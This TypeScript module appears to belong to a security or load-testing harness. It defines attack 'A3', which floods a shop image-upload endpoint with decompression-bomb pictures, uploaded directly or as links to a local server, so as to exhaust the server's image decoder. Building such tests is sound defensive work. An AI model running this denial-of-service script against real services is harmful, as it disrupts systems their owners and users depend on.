import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { type Attack, createApplicants, keepAt } from '../target.ts'
import { bombs } from './bombs.ts'

const MERCHANTS = 2
const UPLOADS_AT_ONCE = 4

/** A3: pictures of a few kilobytes that cost a decoder the most, each uploaded and named by a link in turn. */
export const pictureBombs: Attack = async ({ url, ...target }) => {
  const applicants = await createApplicants({ url, ...target }, MERCHANTS)
  const files = bombs()
  const host = await startPictureHost(files)
  return async () => {
    let count = 0
    keepAt(MERCHANTS * UPLOADS_AT_ONCE, async (index) => {
      const { token } = applicants[index % MERCHANTS] as (typeof applicants)[number]
      const which = count % files.length
      const isLink = Math.floor(count / files.length) % 2 === 1
      count += 1
      const form = new FormData()
      form.set('resp_type', '1')
      if (isLink) {
        form.set('upload_type', '1')
        form.set('img_url', `${host}/${which}?${count}`)
      } else {
        form.set('media', new Blob([new Uint8Array(files[which] as Buffer)], { type: 'image/png' }), 'picture')
      }
      const answer = await fetch(`${url}/shop/img/upload?access_token=${token}`, { method: 'POST', body: form })
      await answer.text()
    })
  }
}

async function startPictureHost(files: readonly Buffer[]): Promise<string> {
  const server = createServer((request, response) => {
    const { pathname } = new URL(request.url ?? '/', 'http://host')
    response.setHeader('content-type', 'image/png').end(files[Number(pathname.slice(1))])
  })
  await new Promise<void>((listening) => server.listen(0, '127.0.0.1', listening))
  return `http://127.0.0.1:${(server.address() as AddressInfo).port}`
}
